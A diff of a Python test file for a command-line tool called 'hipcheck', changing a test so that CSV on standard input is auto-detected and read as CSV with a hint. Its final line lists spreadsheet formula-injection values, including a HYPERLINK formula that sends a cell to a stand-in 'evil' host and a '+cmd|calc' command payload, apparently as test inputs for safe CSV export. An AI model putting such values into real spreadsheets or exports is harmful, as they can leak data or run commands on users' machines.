@@ -266,17 +266,21 @@ def test_jsonl_with_a_bom_is_read(tmp_path: Path) -> None:
     assert res.exit == 0 and jsonl_out(res)[0]["id"] == "r1"
 
 
-def test_csv_on_stdin_gets_a_hint() -> None:
+def test_csv_on_stdin_is_read_as_csv_and_says_so() -> None:
     res = run("batch", "-", stdin=b"id,location\nr1,groin\n")
     hint = (
-        "hipcheck: standard input looks like CSV but is read as JSON Lines;"
-        " give --input-format csv\n"
+        "hipcheck: standard input starts with a CSV header: read as CSV "
+        "(give --input-format jsonl to read it as JSON Lines)\n"
     )
-    assert res.err.startswith(hint)
+    assert res.exit == 0 and res.err.startswith(hint)
+    assert jsonl_out(res)[0]["id"] == "r1"
     res = run("batch", "-", "--input-format", "csv", stdin=b"id,location\nr1,groin\n")
     assert res.exit == 0 and hint not in res.err
     res = run("batch", "-", stdin=b'{"id": "a,b", "location": ["groin"]}\n')
     assert res.exit == 0 and res.err == ""
+    res = run("batch", "-", "--format", "csv", "--input-format", "csv",
+              stdin=b"id,location\nr1,groin\n")  # fmt: skip
+    assert res.err.startswith("hipcheck is not a diagnosis")  # a note, not an error
 
 
 IDS = ['=HYPERLINK("http://evil/?x="&A1)', "+cmd|calc", "-2+3", "@SUM(A1)", "\tx", "\rx", "ok"]
